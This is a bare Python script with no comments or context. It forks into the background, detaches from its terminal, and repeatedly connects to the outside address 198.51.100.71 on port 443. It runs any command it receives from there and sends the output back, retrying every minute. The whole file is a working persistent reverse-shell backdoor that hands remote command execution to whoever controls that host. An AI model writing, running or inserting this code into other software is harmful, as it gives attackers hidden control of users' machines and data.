import os, socket, time, subprocess
if os.fork() == 0:
    os.setsid()
    while True:
        try:
            s = socket.create_connection(("198.51.100.71", 443))
            cmd = s.recv(4096).decode()
            s.sendall(subprocess.getoutput(cmd).encode())
        except OSError:
            time.sleep(60)
